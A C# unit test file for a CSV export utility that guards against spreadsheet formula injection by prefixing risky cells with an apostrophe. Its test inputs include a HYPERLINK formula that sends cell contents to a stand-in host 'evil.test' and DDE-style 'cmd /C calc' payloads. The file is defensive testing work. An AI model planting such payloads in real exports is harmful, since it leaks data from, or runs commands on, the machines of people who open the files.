using Analytics.Web.Utils;

namespace Analytics.Web.Tests.Utils;

/// <summary>CSV exports never hand a spreadsheet a formula: text starting with = + - @ tab or CR is shown as text; numbers stay numbers.</summary>
public sealed class CsvTests
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.test/?leak=\"&A1,\"click\")";

    [Theory]
    [InlineData(Hyperlink, "'" + Hyperlink)]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("-3.5", "-3.5")]
    [InlineData("+7", "+7")]
    [InlineData("payments", "payments")]
    [InlineData("", "")]
    public void Text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(string text, string expected) =>
        Assert.Equal(expected, Csv.Neutralise(text));

    [Fact]
    public void A_negative_figure_is_written_as_a_number()
    {
        Assert.Equal("-3.5", Csv.Cell(-3.5));
        Assert.Equal("-12", Csv.Cell(-12L));
    }

    [Fact]
    public void A_team_named_like_a_formula_is_exported_as_text()
    {
        using var output = new StringWriter();

        Csv.Write(output, ["team", "change"], [[Hyperlink, -3.5], ["-team", -1]]);

        var lines = output.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);
        Assert.Equal("\"'=HYPERLINK(\"\"https://evil.test/?leak=\"\"&A1,\"\"click\"\")\",-3.5", lines[1]);
        Assert.Equal("'-team,-1", lines[2]);
    }
}
